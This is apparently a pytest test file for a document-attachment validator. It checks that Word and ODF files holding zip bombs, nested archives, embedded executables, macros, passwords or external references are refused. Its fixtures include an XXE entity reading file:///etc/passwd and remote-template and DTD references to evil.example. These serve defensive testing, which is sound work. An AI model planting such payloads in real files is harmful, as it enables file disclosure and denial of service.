from io import BytesIO
from tests.rules.attachments import making
from vanphong.attachments.rules import KINDS
from vanphong.attachments.rules import Limits
from vanphong.attachments.rules import check_container
from vanphong.errors import InvalidInput
import pytest


ZEROS = bytes(3_000_000)
EXCEL = making.archive({"[Content_Types].xml": making.TYPES, "xl/workbook.xml": b"<x/>"})


def check(content, kind="docx", **limits):
    return check_container(f"a.{kind}", BytesIO(content), KINDS[kind], Limits(**limits))


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (making.docx(), "docx"),
        (making.docx(word__embeddings__Bang_xlsx=EXCEL), "docx"),
        (making.docx(**{"word/media/image1.emz": b"\x1f\x8b\x08\x00"}), "docx"),
        (making.odt(), "odt"),
        (b"%PDF-1.4 is no container", "pdf"),
    ],
)
def test_good_files_pass(content, kind):
    assert check(content, kind) == ()


SETTINGS = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def test_a_template_from_elsewhere_is_warned_of():
    content = making.docx(**{"word/_rels/settings.xml.rels": SETTINGS})
    assert check(content) == ("remote-template",)


def wide(text):
    return text.encode("utf-16-le")


MANIFEST = b"<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"

BAD = {
    "a bomb": (making.docx(word__media__a_bin=ZEROS), "docx", "more than"),
    "a bomb whose header lies": (making.lying(making.docx(a=ZEROS)), "docx", "more than|damaged"),
    "a bomb in a part": (
        making.docx(word__embeddings__a_xlsx=making.archive({"x": ZEROS})),
        "docx",
        "more than",
    ),
    "an archive": (making.docx(word__a_zip=making.archive({"x": b"y"})), "docx", "archive within"),
    "an archive in a part": (
        making.docx(
            word__embeddings__a_xlsx=making.archive({"x.zip": making.archive({"y": b"z"})})
        ),
        "docx",
        "archive within",
    ),
    "RAR": (making.docx(a=b"Rar!\x1a\x07\x00x"), "docx", "archive within"),
    "a program": (making.docx(word__a_bin=b"MZ\x90\x00\x03"), "docx", "holds a program"),
    "macros": (making.docx(**{"word/vbaProject.bin": b"x"}), "docx", "holds macros"),
    "macros in ODF": (making.odt(**{"Basic/Standard/M.xml": b"<x/>"}), "odt", "holds macros"),
    "entities": (
        making.docx(**{"word/a.xml": b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>'}),
        "docx",
        "refers to other files",
    ),
    "a document type": (
        making.docx(**{"word/a.xml": b'<!DOCTYPE x SYSTEM "http://evil.example/x">'}),
        "docx",
        "refers to other files",
    ),
    "wide letters": (
        making.docx(**{"word/a.xml": wide('<!ENTITY a "b">')}),
        "docx",
        "refers to other files",
    ),
    "entities far behind": (
        making.docx(**{"word/a.xml": b" " * 65_530 + b'<!ENTITY a "b">'}),
        "docx",
        "refers to other files",
    ),
    "entities in ODF": (making.odt(**{"a.xml": b'<!ENTITY a "b">'}), "odt", "refers to"),
    "a password in ODF": (making.odt(**{"META-INF/manifest.xml": MANIFEST}), "odt", "password"),
    "half of it": (making.docx()[:-40], "docx", "damaged"),
    "its head only": (making.docx()[:60], "docx", "damaged"),
    "a changed byte": (
        making.docx().replace(b"word/document", b"word/documenX", 1),
        "docx",
        "dama",
    ),
}


@pytest.mark.parametrize("name", BAD)
def test_bad_files_are_refused_and_say_why(name):
    content, kind, said = BAD[name]
    with pytest.raises(InvalidInput, match=said) as problem:
        check(content, kind, unpacked=1_000_000)
    assert problem.value.field == "file"


def test_members_are_counted():
    many = making.docx(**{f"word/{n}.xml": b"" for n in range(20)})
    check(many)
    with pytest.raises(InvalidInput, match="more than 20 parts"):
        check(many, members=20)


def test_a_member_with_a_password_is_refused():
    content = bytearray(making.docx())
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.rindex(sign) + at] |= 1
    with pytest.raises(InvalidInput, match="has a password"):
        check(bytes(content))
